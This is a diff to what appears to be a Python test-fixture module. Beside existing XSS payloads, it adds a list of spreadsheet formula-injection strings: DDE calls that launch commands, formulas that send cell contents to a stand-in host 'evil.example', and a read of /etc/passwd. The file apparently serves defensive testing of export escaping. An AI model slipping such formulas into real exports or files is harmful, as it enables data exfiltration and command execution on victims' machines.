@@ -1,4 +1,4 @@
-"""Names that a hostile partner could give a site: each would set ``window.hit`` if any page or map ran it."""
+"""Text that a hostile partner could write: payloads would set ``window.hit`` if any page or map ran them, formulas would run in a spreadsheet."""
 
 from __future__ import annotations
 
@@ -38,3 +38,31 @@ PAYLOADS = (
 )
 
 HIT = "Boolean(window.hit || top.hit || parent.hit)"
+
+FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    '=WEBSERVICE("http://evil.example/"&A1)',
+    '=IMPORTXML("http://evil.example/","//a")',
+    '=IMPORTDATA("http://evil.example/x.csv")',
+    '=DDE("cmd";"/C calc";"x")',
+    '=INDIRECT("A1")',
+    "=SUM(1,1)*cmd|' /C calc'!A0",
+    '=IF(1=1,"a","b")',
+    "='file:///etc/passwd'#$passwd.A1",
+    "=@SUM(A1:A9)",
+    "+1+cmd|' /C calc'!A0",
+    '+HYPERLINK("http://evil.example")',
+    "+\u0661+\u0661",
+    "-2+3+cmd|' /C calc'!A0",
+    "-SUM(A1:A9)",
+    "-(1)",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@A1",
+    "{=1+1}",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+)
+"""Cells that a spreadsheet would work out, some behind a sign that it skips."""
